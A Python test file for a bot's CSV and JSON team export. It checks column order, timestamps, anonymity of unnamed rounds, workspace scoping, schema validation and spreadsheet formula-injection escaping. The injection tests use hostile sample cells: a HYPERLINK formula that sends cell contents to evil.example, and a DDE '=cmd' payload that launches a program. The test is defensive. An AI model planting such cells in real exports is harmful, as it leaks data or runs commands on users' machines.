"""The team export on rounds in a real SQLite file: CSV and JSON as users and programs read
them, formula injection, privacy of anonymous rounds, workspace scoping, the JSON Schema."""

from __future__ import annotations

import csv
import io
import json
from collections.abc import AsyncIterator, Callable, Mapping, Sequence
from datetime import UTC, datetime
from pathlib import Path
from typing import Any

import jsonschema  # type: ignore[import-untyped]
import pytest

from bot.schema import Answers, AnswerValue, load_schema
from bot.storage import SqlStore, open_store
from bot.team.export import (
    FORMULA_STARTS,
    ROUND_COLUMNS,
    RoundExport,
    columns,
    gather,
    iso_time,
    neutralise,
    to_csv,
    to_json,
)
from bot.team.rounds import Closing, NewRound, Round, RoundOptions
from bot.verdict import diagnose

ROOT = Path(__file__).resolve().parents[2]
DATA = ROOT / "tests" / "data"
DOC_SCHEMA = json.loads((ROOT / "docs" / "export.schema.json").read_text(encoding="utf-8"))
SCHEMA = load_schema()
NOW = datetime(2026, 12, 2, 17, 0, tzinfo=UTC).timestamp()
HOUR = 3600.0
NETWORKS = ("facebook", "instagram", "linkedin", "x", "tiktok", "youtube", "pinterest")


def answers_of(name: str, **changes: AnswerValue) -> Answers:
    """A test case's answers as the interview stores them (tuples for several choices)."""
    raw = json.loads((DATA / name).read_text(encoding="utf-8"))
    answers = {q: tuple(v) if isinstance(v, list) else v for q, v in raw.items()}
    return {**answers, **changes}


BURRITO, LICENCE = answers_of("burrito.json"), answers_of("licence_plate.json")


@pytest.fixture
async def store(tmp_path: Path) -> AsyncIterator[SqlStore]:
    opened = await open_store(f"sqlite:///{tmp_path}/e.db")
    try:
        yield opened
    finally:
        await opened.close()


async def make_round(
    store: SqlStore,
    *,
    named: bool = False,
    workspace: str = "T1",
    platform: str = "slack",
    channel: str = "C1",
    owner: str = "U_OWNER_7",
    people: Sequence[str] = (),
    answered: Mapping[str, Answers] | None = None,
    joined: Sequence[str] = (),
    declined: Sequence[str] = (),
    close: bool = True,
) -> Round:
    """A round with these participants, in this order: joined (without answering), answered
    (an hour apart, in the mapping's order), declined."""
    options = RoundOptions(named=named, people=tuple(people))
    new = NewRound(platform, workspace, channel, owner, "en", options)
    round_ = await store.rounds.create_round(new, NOW)
    rounds = store.rounds
    joining = iter(range(1, 1000))  # a second apart: the store keeps the order they joined

    async def join(user: str) -> None:
        # Invited people keep their place (their invitation's time) when they join.
        assert await rounds.join(round_.id, user, NOW + next(joining))

    for user in joined:
        await join(user)
    for i, (user, answers) in enumerate((answered or {}).items(), start=1):
        await join(user)
        assert await rounds.answered(round_.id, user, answers, NOW + i * HOUR)
    for user in declined:
        if user not in people:
            await join(user)
        assert await rounds.decline(round_.id, user, NOW + 12 * HOUR)
    if close:
        closed = await rounds.close(round_.id, Closing.OWNER, NOW + 24 * HOUR)
        assert closed is not None
        return closed
    return round_


def read_csv(data: bytes) -> list[dict[str, str]]:
    with io.StringIO(data.decode("utf-8-sig"), newline="") as text:
        rows = list(csv.reader(text))
    assert rows[0] == list(columns(SCHEMA))
    return [dict(zip(rows[0], row, strict=True)) for row in rows[1:]]


def read_json(data: bytes) -> dict[str, Any]:
    document: dict[str, Any] = json.loads(data.decode("utf-8"))
    jsonschema.Draft202012Validator(DOC_SCHEMA).validate(document)
    return document


def cell(value: AnswerValue | None) -> str:
    if value is None:
        return ""
    return " ".join(value) if isinstance(value, tuple) else str(value)


async def export_of(store: SqlStore, round_: Round) -> list[RoundExport]:
    exports = await gather(store.rounds, round_.platform, round_.workspace, round_.id)
    assert [e.round.id for e in exports] == [round_.id]
    return exports


def test_the_columns_are_the_public_schema_ids_in_order() -> None:
    header = columns(SCHEMA)
    questions = [q.id for q in SCHEMA.all_questions()]
    assert header[: len(ROUND_COLUMNS)] == (
        "round_id",
        "platform",
        "workspace",
        "channel",
        "round_status",
        "opened_at",
        "closed_at",
        "named",
        "participant",
        "taking",
        "answered_at",
    )
    assert list(header[len(ROUND_COLUMNS) : len(ROUND_COLUMNS) + len(questions)]) == questions
    assert questions[:4] == ["business_model", "buyers", "audience", "platforms"]
    assert questions[4:12] == [*(f"presence.{n}" for n in NETWORKS), "hooks"]
    assert header[-10:] == (
        *(f"verdict.{n}" for n in NETWORKS),
        "warnings",
        "alternatives",
        "score",
    )
    assert len(set(header)) == len(header)


def test_times_are_iso_8601_utc() -> None:
    assert iso_time(NOW) == "2026-12-02T17:00:00Z"
    assert iso_time(NOW + 0.75) == "2026-12-02T17:00:00Z"
    assert iso_time(None) is None


@pytest.mark.parametrize("start", FORMULA_STARTS)
def test_a_cell_a_spreadsheet_would_run_gets_a_quote(start: str) -> None:
    assert neutralise(f"{start}1+2") == f"'{start}1+2"


@pytest.mark.parametrize("harmless", ["", "a=b", "1+1", "U123", "plain text", "'quoted"])
def test_other_cells_are_kept(harmless: str) -> None:
    assert neutralise(harmless) == harmless


async def test_the_csv_round_trips_through_python_csv(store: SqlStore) -> None:
    round_ = await make_round(
        store,
        named=True,
        answered={"U_ANA": BURRITO, "U_BEN": LICENCE},
        joined=["U_JOE"],
        declined=["U_DEE"],
    )
    rows = read_csv(to_csv(await export_of(store, round_), SCHEMA))
    assert [(r["participant"], r["taking"]) for r in rows] == [
        ("U_JOE", "joined"),
        ("U_ANA", "answered"),
        ("U_BEN", "answered"),
        ("U_DEE", "declined"),
    ]
    for row in rows:
        assert row["round_id"] == str(round_.id)
        assert (row["platform"], row["workspace"], row["channel"]) == ("slack", "T1", "C1")
        assert (row["round_status"], row["named"]) == ("closed", "true")
        assert row["opened_at"] == "2026-12-02T17:00:00Z"
        assert row["closed_at"] == "2026-12-03T17:00:00Z"
    by_user = {r["participant"]: r for r in rows}
    for user, answers in (("U_ANA", BURRITO), ("U_BEN", LICENCE)):
        row = by_user[user]
        for question in SCHEMA.all_questions():
            assert row[question.id] == cell(answers.get(question.id)), question.id
        verdict = diagnose(answers, schema=SCHEMA)
        calls = {c.platform: c.verdict for c in verdict.platforms}
        assert {n: row[f"verdict.{n}"] for n in NETWORKS} == {n: calls.get(n, "") for n in NETWORKS}
        assert row["warnings"] == " ".join(verdict.warnings)
        assert row["alternatives"] == " ".join(a.channel for a in verdict.alternatives)
        assert row["score"] == str(verdict.score)
    assert by_user["U_ANA"]["answered_at"] == "2026-12-02T18:00:00Z"
    assert by_user["U_ANA"]["platforms"] == "facebook instagram tiktok"
    assert by_user["U_ANA"]["verdict.tiktok"] == "engage"
    assert by_user["U_BEN"]["hooks"] == ""  # an empty many-choice answer
    assert by_user["U_BEN"]["verdict.facebook"] == "drop"
    assert by_user["U_BEN"]["effort_hours"] == "10"
    for user in ("U_JOE", "U_DEE"):
        assert {k: v for k, v in by_user[user].items() if k not in ROUND_COLUMNS} == dict.fromkeys(
            columns(SCHEMA)[len(ROUND_COLUMNS) :], ""
        )
        assert by_user[user]["answered_at"] == ""


async def test_the_csv_has_a_bom_and_crlf_rows(store: SqlStore) -> None:
    audience = "Cafés à Montréal, pour qu'ils goûtent"
    round_ = await make_round(store, answered={"U1": {**BURRITO, "audience": audience}})
    data = to_csv(await export_of(store, round_), SCHEMA)
    assert data.startswith(b"\xef\xbb\xbf")
    assert not data[3:].startswith(b"\xef\xbb\xbf")
    lines = data[3:].split(b"\r\n")
    assert lines[0] == ",".join(columns(SCHEMA)).encode()
    assert lines[-1] == b""  # every row ends with \r\n, the last one too
    assert len(lines) == 3
    assert audience.encode("utf-8") in data


async def test_an_open_round_has_no_closing_time(store: SqlStore) -> None:
    round_ = await make_round(store, answered={"U1": LICENCE}, close=False)
    exports = await export_of(store, round_)
    [row] = read_csv(to_csv(exports, SCHEMA))
    assert (row["round_status"], row["closed_at"]) == ("open", "")
    [doc_round] = read_json(to_json(exports, SCHEMA))["rounds"]
    assert doc_round["status"] == "open"
    assert (doc_round["closed_at"], doc_round["closed_by"]) == (None, None)
    assert doc_round["deadline"] == "2026-12-09T17:00:00Z"


INJECTIONS = ['=HYPERLINK("https://evil.example/?"&A1,"Click")', "+1", "-2", "@SUM(A1:A9)"]


async def test_formula_injection_is_neutralised_in_csv_not_in_json(store: SqlStore) -> None:
    answered = {f"U{i}": {**BURRITO, "audience": text} for i, text in enumerate(INJECTIONS)}
    answered["U9"] = {**BURRITO, "audience": "\tTabbed =1+1"}
    round_ = await make_round(store, named=True, channel="=cmd|' /C calc'!A0", answered=answered)
    exports = await export_of(store, round_)
    rows = read_csv(to_csv(exports, SCHEMA))
    given = [a["audience"] for a in answered.values()]
    assert [r["audience"] for r in rows] == [f"'{text}" for text in given]
    assert {r["channel"] for r in rows} == {"'=cmd|' /C calc'!A0"}
    for row in rows:
        dangerous = [c for c in row.values() if c.startswith(FORMULA_STARTS)]
        assert dangerous == []
    document = read_json(to_json(exports, SCHEMA))
    [doc_round] = document["rounds"]
    assert doc_round["channel"] == "=cmd|' /C calc'!A0"
    assert [p["answers"]["audience"] for p in doc_round["participants"]] == given


async def test_an_anonymous_round_never_exports_a_user_id(store: SqlStore) -> None:
    people = ["U_ALICE_42", "U_BOB_43", "U_CAROL_44", "U_DAN_45"]
    round_ = await make_round(
        store,
        people=people,
        # Bob answers before Alice: the numbers follow answers, not the owner's invitations.
        answered={"U_BOB_43": LICENCE, "U_ALICE_42": BURRITO},
        declined=["U_CAROL_44"],
    )
    exports = await export_of(store, round_)
    csv_data, json_data = to_csv(exports, SCHEMA), to_json(exports, SCHEMA)
    for user in [*people, "U_OWNER_7", "ALICE", "BOB", "CAROL", "DAN", "OWNER"]:
        assert user.encode() not in csv_data
        assert user.encode() not in json_data
    rows = read_csv(csv_data)
    assert [(r["participant"], r["taking"], r["buyers"]) for r in rows] == [
        ("participant 1", "answered", "handful"),
        ("participant 2", "answered", "mass"),
        ("participant 3", "invited", ""),
        ("participant 4", "declined", ""),
    ]
    assert {r["named"] for r in rows} == {"false"}
    [doc_round] = read_json(json_data)["rounds"]
    assert doc_round["named"] is False
    assert [p["participant"] for p in doc_round["participants"]] == [r["participant"] for r in rows]


async def test_a_named_round_exports_user_ids(store: SqlStore) -> None:
    round_ = await make_round(
        store,
        named=True,
        people=["U_ALICE_42", "U_BOB_43"],
        answered={"U_BOB_43": LICENCE, "U_ALICE_42": BURRITO},
    )
    exports = await export_of(store, round_)
    rows = read_csv(to_csv(exports, SCHEMA))
    # In the order they were invited (the store's order), each with their own answers.
    assert [(r["participant"], r["buyers"]) for r in rows] == [
        ("U_ALICE_42", "mass"),
        ("U_BOB_43", "handful"),
    ]
    [doc_round] = read_json(to_json(exports, SCHEMA))["rounds"]
    assert [p["participant"] for p in doc_round["participants"]] == ["U_ALICE_42", "U_BOB_43"]
    assert "U_OWNER_7" not in to_json(exports, SCHEMA).decode()


async def test_another_workspace_round_is_never_exported(store: SqlStore) -> None:
    ours = await make_round(store, named=True, answered={"U_OURS": BURRITO})
    theirs = await make_round(store, named=True, workspace="T2", answered={"U_THEIRS": LICENCE})
    same_id_elsewhere = await make_round(
        store, named=True, platform="discord", answered={"U_DISCORD": LICENCE}
    )
    rounds = store.rounds
    assert await gather(rounds, "slack", "T1", theirs.id) == []
    assert await gather(rounds, "slack", "T1", same_id_elsewhere.id) == []
    assert await gather(rounds, "slack", "T1", 999) == []
    assert await gather(rounds, "slack", "T3") == []
    everything = await gather(rounds, "slack", "T1")
    assert [e.round.id for e in everything] == [ours.id]
    data = to_csv(everything, SCHEMA) + to_json(everything, SCHEMA)
    assert b"U_OURS" in data
    assert b"U_THEIRS" not in data
    assert b"U_DISCORD" not in data


async def test_every_round_of_the_workspace_newest_first(store: SqlStore) -> None:
    first = await make_round(store, answered={"U1": BURRITO})
    second = await make_round(store, channel="C2", answered={"U1": LICENCE}, close=False)
    exports = await gather(store.rounds, "slack", "T1")
    assert [e.round.id for e in exports] == [second.id, first.id]
    rows = read_csv(to_csv(exports, SCHEMA))
    assert [(r["round_id"], r["channel"]) for r in rows] == [
        (str(second.id), "C2"),
        (str(first.id), "C1"),
    ]
    document = read_json(to_json(exports, SCHEMA))
    assert [r["id"] for r in document["rounds"]] == [second.id, first.id]


async def test_the_json_validates_and_its_verdicts_are_diagnose(store: SqlStore) -> None:
    round_ = await make_round(
        store,
        named=True,
        answered={"U_ANA": BURRITO, "U_BEN": LICENCE},
        joined=["U_JOE"],
        declined=["U_DEE"],
    )
    document = read_json(to_json(await export_of(store, round_), SCHEMA))
    assert (document["format"], document["version"]) == ("ecoute.team-export", 1)
    [doc_round] = document["rounds"]
    assert {k: v for k, v in doc_round.items() if k != "participants"} == {
        "id": round_.id,
        "platform": "slack",
        "workspace": "T1",
        "channel": "C1",
        "status": "closed",
        "named": True,
        "opened_at": "2026-12-02T17:00:00Z",
        "closed_at": "2026-12-03T17:00:00Z",
        "closed_by": "owner",
        "deadline": "2026-12-09T17:00:00Z",
    }
    people = {p["participant"]: p for p in doc_round["participants"]}
    assert list(people) == ["U_JOE", "U_ANA", "U_BEN", "U_DEE"]
    for user in ("U_JOE", "U_DEE"):
        assert (people[user]["answers"], people[user]["verdict"]) == (None, None)
        assert people[user]["answered_at"] is None
    for user, answers in (("U_ANA", BURRITO), ("U_BEN", LICENCE)):
        given = people[user]
        stored = {q: list(v) if isinstance(v, tuple) else v for q, v in answers.items()}
        assert given["answers"] == stored
        schema_order = [q.id for q in SCHEMA.all_questions() if q.id in stored]
        assert list(given["answers"]) == schema_order
        verdict = diagnose(answers, schema=SCHEMA)
        assert given["verdict"] == {
            "platforms": {c.platform: c.verdict for c in verdict.platforms},
            "warnings": list(verdict.warnings),
            "alternatives": [a.channel for a in verdict.alternatives],
            "score": verdict.score,
        }
    assert people["U_BEN"]["verdict"]["platforms"] == {"facebook": "drop"}
    assert {"vanity_metrics", "resource_drain"} <= set(people["U_BEN"]["verdict"]["warnings"])


def test_the_documented_schema_is_a_valid_2020_12_schema() -> None:
    assert DOC_SCHEMA["$schema"] == "https://json-schema.org/draft/2020-12/schema"
    jsonschema.Draft202012Validator.check_schema(DOC_SCHEMA)


def _break_version(d: dict[str, Any]) -> None:
    d["version"] = 2


def _break_verdict(d: dict[str, Any]) -> None:
    d["rounds"][0]["participants"][0]["verdict"]["platforms"]["x"] = "maybe"


def _break_time(d: dict[str, Any]) -> None:
    d["rounds"][0]["opened_at"] = "2026-12-02 17:00"


def _add_owner(d: dict[str, Any]) -> None:
    d["rounds"][0]["owner"] = "U_OWNER_7"


def _break_taking(d: dict[str, Any]) -> None:
    d["rounds"][0]["participants"][0]["taking"] = "left"


def _break_answer(d: dict[str, Any]) -> None:
    d["rounds"][0]["participants"][0]["answers"]["hooks"] = {"support": True}


@pytest.mark.parametrize(
    "breaking",
    [_break_version, _break_verdict, _break_time, _add_owner, _break_taking, _break_answer],
)
async def test_the_documented_schema_rejects_what_the_export_never_writes(
    store: SqlStore, breaking: Callable[[dict[str, Any]], None]
) -> None:
    round_ = await make_round(store, answered={"U1": BURRITO})
    document = read_json(to_json(await export_of(store, round_), SCHEMA))
    breaking(document)
    assert not jsonschema.Draft202012Validator(DOC_SCHEMA).is_valid(document)
